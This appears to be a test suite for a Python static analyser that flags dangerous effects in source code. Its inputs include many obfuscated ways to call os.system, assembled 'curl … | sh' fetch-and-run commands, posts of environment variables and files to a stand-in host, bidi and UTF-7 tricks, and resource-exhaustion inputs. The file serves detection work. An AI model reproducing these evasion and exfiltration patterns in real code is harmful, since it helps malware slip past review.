"""What a Python file can do, and when, read from its syntax alone."""

import base64
import itertools
import time
from pathlib import Path

import pytest

from assay.core.limits import Limits
from assay.sourcecode.facts import Effect, Level
from assay.sourcecode.python import read_python
from assay.sourcecode.values import _FOLDS, _TEXT_METHODS, fold_call, fold_method
from tests.support.mutate import mutated

LIMITS = Limits()


def effects(text: str) -> list[Effect]:
    source = read_python(text.encode(), LIMITS)
    assert source.error == ""
    return list(source.effects)


def one(text: str, kind: str) -> Effect:
    found = [e for e in effects(text) if e.kind == kind]
    assert found, effects(text)
    return found[0]


@pytest.mark.parametrize(
    "text",
    [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "__import__('o' + 's').system('id')",
        "import importlib\nimportlib.import_module('o' 's').system('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\ngetattr(os, 'metsys'[::-1])('id')",
        "import os\ngetattr(os, ''.join(['s','y','s','t','e','m']))('id')",
        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
        "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]))('id')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['system']('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import random\nrandom._os.system('id')",
        "import posix\nposix.system('id')",
        "import os\nf = os.system\nf('id')",
        "import os\nd = {'a': os.system}\nd['a']('id')",
        "import os\n(lambda c: os.system(c))('id')",
        "import os\n[f('id') for f in [os.system]]",
        "import os\nf = print if 0 else os.system\nf('id')",
        "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n        self.f('id')",
        "import os\ndef run(c):\n    os.system(c)\nrun('id')",
        "import os, operator\noperator.methodcaller('system', 'id')(os)",
        "import os, operator\noperator.attrgetter('system')(os)('id')",
        "import os, functools\nfunctools.partial(os.system, 'id')()",
        "exec('import os; os.system(\"id\")')",
        "exec(compile('import os\\nos.system(\"id\")', '', 'exec'))",
        f"import base64\nexec(base64.b64decode('{base64.b64encode(b'import os;os.system(1)').decode()}'))",
        "().__class__.__base__.__subclasses__()[1].__init__.__globals__['system']('id')",
    ],
)
def test_every_way_to_write_a_call_is_named(text: str) -> None:
    assert one(text, "process").call in {"os.system", "posix.system"}


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", "process"),
        ("@__import__('os').system\nclass A: pass", "process"),
        ("import builtins\ngetattr(builtins, 'ex' + 'ec')('1')", "code"),
        ("globals()['__builtins__'].__dict__['eval']('1')", "code"),
        ("__builtins__['eval']('1')", "code"),
        ("import marshal\nmarshal.loads(b'')", "code"),
        ("import types\ntypes.FunctionType(c, {})()", "code"),
        ("import torch\ntorch.load('x')", "deserialise"),
        ("import numpy as np\nnp.load('x', allow_pickle=True)", "deserialise"),
        ("import yaml\nyaml.load(t, Loader=yaml.Loader)", "deserialise"),
        ("import requests\nrequests.post('http://x', data=1)", "network"),
        ("from urllib.request import urlopen\nurlopen('http://x')", "network"),
        ("import ctypes\nctypes.CDLL('x.so')", "native"),
        ("open('x', 'w')", "write"),
        ("from pathlib import Path\n(Path.home() / 'x').write_text('y')", "write"),
        ("import importlib\nimportlib.import_module(name)", "computed-import"),
        ("import os\ngetattr(os, name)('id')", "computed-attribute"),
        ("import os\nos.dup2(1, 2)", "redirect"),
        ("import sys\nsys.meta_path.insert(0, X())", "environment-change"),
        ("match x:\n    case 1 if eval('1'):\n        pass", "code"),
        ("import builtins\nbuiltins.open = f", "environment-change"),
        ("import os\nos.environ['LD_PRELOAD'] = 'x.so'", "environment-change"),
        ("import sys\nsys.modules['json'] = f", "environment-change"),
        ("import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'x')", "code"),
        ("with eval('1') as y:\n    pass", "code"),
        ("def f(x=eval('1')): pass", "code"),
        ("x: eval('1') = 2", "code"),
    ],
)
def test_kinds(text: str, kind: str) -> None:
    assert one(text, kind).level is Level.IMPORT


@pytest.mark.parametrize(
    "text",
    [
        "model.eval()",
        "import re\nre.compile('x')",
        "import torch\ntorch.load('x', weights_only=True)",
        "import numpy as np\nnp.load('x.npy')",
        "import yaml\nyaml.load(t, Loader=yaml.SafeLoader)\nyaml.safe_load(t)",
        "open('x')",
        "import json\njson.load(open('x'))",
        "class A:\n    def open(self): self.open('w')\n    def exec(self): self.exec('x')",
        "def eval(x): return x\neval('1')",
        "def f(compile): return compile('x')",
        "import os\nos.path.join('a', 'b')\nos.environ.get('HOME')",
        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'",
        "class A:\n    def f(self): self.os = 1",
    ],
)
def test_harmless_look_alikes_have_no_effect(text: str) -> None:
    assert effects(text) == []


def test_levels_follow_the_call_graph() -> None:
    text = """
import os
def at_import(): os.system("a")
def at_load(): os.system("b")
def at_use(): os.system("c")
def never(): os.system("d")
class Model(Base):
    def __init__(self): self.helper()
    def helper(self): at_load()
    def forward(self, x): at_use()
at_import()
if __name__ == "__main__":
    os.system("e")
"""
    levels = {e.arguments[0]: e.level.value for e in effects(text)}
    assert levels == {"a": "import", "b": "load", "c": "use", "d": "other", "e": "main"}


def test_instantiating_a_class_runs_its_hooks() -> None:
    text = "import os\nclass A:\n    def __del__(self): os.system('x')\nA()"
    assert one(text, "process").level is Level.IMPORT


def test_arguments_are_put_together() -> None:
    effect = one("import os\nc = 'cu'\nc += 'rl http://x'\nos.system(c + ' | sh')", "process")
    assert effect.arguments == ("curl http://x | sh",)
    assert "assembled" in effect.tags


def test_an_unknown_part_is_shown_as_such() -> None:
    effect = one("import os\nos.system(f'curl {u} | sh')", "process")
    assert effect.arguments == ("curl … | sh",)
    assert "partial" in effect.tags


def test_sources_of_what_is_executed_are_tagged() -> None:
    assert "network" in one("import requests\nexec(requests.get('http://x').text)", "code").tags
    assert "environment" in one("import os, requests\nrequests.post('u', json=dict(os.environ))", "network").tags
    assert "file" in one("import requests\nrequests.post('u', data=open('k').read())", "network").tags


def test_classes_and_imports_are_listed() -> None:
    source = read_python(b"from .a import B\nimport c.d\nclass X(datasets.GeneratorBasedBuilder): pass", LIMITS)
    assert [(i.module, i.names) for i in source.imports] == [(".a", ("B",)), ("c.d", ())]
    assert source.classes[0].bases == ("datasets.GeneratorBasedBuilder",)


def test_hidden_characters_and_encodings_are_facts() -> None:
    source = read_python("access = 'user\u202e \u2066# admin\u2069 \u2066'\n".encode(), LIMITS)
    assert [h.kind for h in source.hidden] == ["bidi"]
    assert read_python(b"# coding: utf-7\n+AGk-mport os\n", LIMITS).encoding == "utf-7"


def test_the_declared_encoding_is_the_one_that_is_read() -> None:
    source = read_python(b"# coding: utf-7\nimport os\nos.system(+ACI-id+ACI-)\n", LIMITS)
    assert [e.call for e in source.effects] == ["os.system"]


@pytest.mark.parametrize("data", [b"def (", b"\0", b"\xff\xfe", b"# coding: nonsense\nx", b"x = " + b"(" * 5000])
def test_broken_source_is_a_fact(data: bytes) -> None:
    assert read_python(data, LIMITS).error


@pytest.mark.parametrize(
    "text",
    [
        "-" * 50_000 + "1",
        "x" + ".a" * 50_000,
        "+".join(["'a'"] * 20_000),
        "x = [" + "1," * 50_000 + "]",
        "f(" * 190 + ")" * 190,
        "if x:\n" + "".join(f"{' ' * i}if x:\n" for i in range(1, 95)) + " " * 95 + "pass",
        "'%999999999d' % 1",
        "'{:>999999999}'.format(1)",
        "'a' * 999999999 * 999999999",
        "x = 'a'\n" + "x = x + x\n" * 200,
        "x = 'a' * 90000\n" + "y = x.replace('a', 'b' * 90000)\n" * 50,
        "[[x for x in range(999999)] for y in 'ab' * 5000]",
        "import os\n" + "(" + "os.system, " * 20_000 + ")",
        "\n".join(f"def f{i}(): f{i + 1}()" for i in range(5000)),
    ],
)
def test_hostile_shapes_end_soon(text: str) -> None:
    started = time.process_time()
    read_python(text.encode(), LIMITS)
    assert time.process_time() - started < 10  # of this process: others may have the cores


def test_a_folded_call_refuses_arguments_of_the_wrong_kind_without_raising() -> None:
    kinds = ("", "é", "=", b"", b"long enough", 0, -1, 2.5, True, None, ("a", 1), 10**9)
    for arguments in (a for n in range(4) for a in itertools.product(kinds, repeat=n)):
        for name in _FOLDS:
            fold_call(name, arguments)
        for method, base in itertools.product(_TEXT_METHODS, ("a{}", b"a")) if len(arguments) < 3 else ():
            fold_method(base, method, arguments)


def test_a_decoder_called_wrongly_hides_nothing_that_follows() -> None:
    wrong = "import base64, os\nbase64.b64decode('eA==', b'not two')\n"
    assert "os.system" in {e.call for e in effects(wrong + "os.system('id')")}


def test_size_limit() -> None:
    source = read_python(b"x=1\n" * 100, Limits(text_bytes=100))
    assert source.truncated
    assert "larger than" in source.error


def test_mutated_sources_never_raise() -> None:
    here = Path(__file__)
    seeds = [here.read_bytes()[:6000], b"import os\nos.system('id')\n" * 3, "x = 'ü'\nclass A: pass\n".encode()]
    for data in mutated(seeds, 1500):
        read_python(data, LIMITS)
